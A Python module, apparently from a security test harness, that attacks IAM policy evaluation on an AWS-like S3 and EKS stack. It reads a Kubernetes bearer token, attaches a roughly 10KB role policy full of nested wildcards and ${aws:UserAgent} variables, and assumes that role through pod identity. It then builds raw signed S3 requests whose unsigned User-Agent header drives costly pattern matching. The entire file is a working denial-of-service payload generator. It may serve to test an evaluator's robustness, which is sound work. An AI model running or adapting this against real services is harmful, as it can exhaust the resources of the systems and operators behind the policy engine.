"""S3 as a pod's role sees it: a policy whose patterns stand for what the request's own fields say."""

import hashlib
import json
import ssl
import urllib.request
from pathlib import Path
from urllib.parse import urlencode

ROLE = "s3-reader-role"
OBJECT = "/your-bucket-name/hello.txt"


def document():
    """A policy of nearly 10,240 bytes, what a role may have, of variables and wildcards."""
    like = ["*" + "${aws:UserAgent}*" * 20] * 8
    return json.dumps({"Version": "2012-10-17", "Statement": [
        {"Effect": "Allow", "Action": "s3:GetObject",
         "Resource": "arn:aws:s3:::" + "${aws:UserAgent}*" * 250},
        {"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*", "Condition": {
            "StringLike": {"aws:UserAgent": like + ["*?a" * 400 + "!"]}}},
        {"Effect": "Allow", "Action": "s3:GetObject", "Resource": "*", "Condition": {
            "ArnLike": {"aws:UserAgent": ["arn:*:*:*:*:" + "*a" * 200 + "!"]}}}]},
        separators=(",", ":"))


def session(info, signed):
    """Credentials of the role, after it was given the policy."""
    kubernetes, aws = info["kubernetes"], info["aws"]
    config = json.loads(Path(kubernetes["kubeconfig"]).read_text())
    token = config["users"][0]["user"]["token"]
    trust = ssl.create_default_context(cafile=kubernetes["ca"])

    def post(url, path, body, headers, context=None):
        message = urllib.request.Request(url + path, body.encode(), headers)
        with urllib.request.urlopen(message, context=context, timeout=20) as answer:
            return answer.read()

    def create(path, body):
        return json.loads(post(
            kubernetes["url"], "/api/v1/namespaces/default" + path, json.dumps(body),
            {"Authorization": "Bearer " + token, "Content-Type": "application/json"}, trust))

    def call(service, path, body, kind):
        return post(aws["url"], path, body, signed(
            aws["url"], service, "POST", path, body, {"Content-Type": kind},
            aws["accessKeyId"], aws["secretAccessKey"]))

    call("iam", "/", urlencode({
        "Action": "PutRolePolicy", "Version": "2010-05-08", "RoleName": ROLE,
        "PolicyName": "costly", "PolicyDocument": document()}),
        "application/x-www-form-urlencoded")
    create("/pods", {"metadata": {"name": "costly"}, "spec": {
        "serviceAccountName": "s3-reader-sa", "containers": [{"name": "a", "image": "b"}]}})
    issued = create("/serviceaccounts/s3-reader-sa/token", {"spec": {
        "audiences": ["pods.eks.amazonaws.com"],
        "boundObjectRef": {"kind": "Pod", "apiVersion": "v1", "name": "costly"}}})
    path = f"/clusters/{info['cluster']}/assume-role-for-pod-identity"
    return json.loads(call("eks-auth", path, json.dumps({"token": issued["status"]["token"]}),
                           "application/json"))["credentials"]


def places(info, signed):
    """A request of the role's session with a text in its User-Agent, which is not signed."""
    credentials = session(info, signed)
    url = info["s3"]["url"]
    host = url.split("//")[1]

    def get(text):
        headers = signed(
            url, "s3", "GET", OBJECT, b"",
            {"Host": host, "X-Amz-Content-SHA256": hashlib.sha256().hexdigest()},
            credentials["accessKeyId"], credentials["secretAccessKey"],
            credentials["sessionToken"])
        agent = "".join(one for one in text if " " <= one <= "~")
        lines = [f"GET {OBJECT} HTTP/1.1", f"User-Agent: arn:aws:x:::{agent}",
                 *[f"{name}: {value}" for name, value in headers.items()]]
        return "\r\n".join(lines).encode() + b"\r\n\r\n"

    return {"User-Agent under a policy of variables": get}
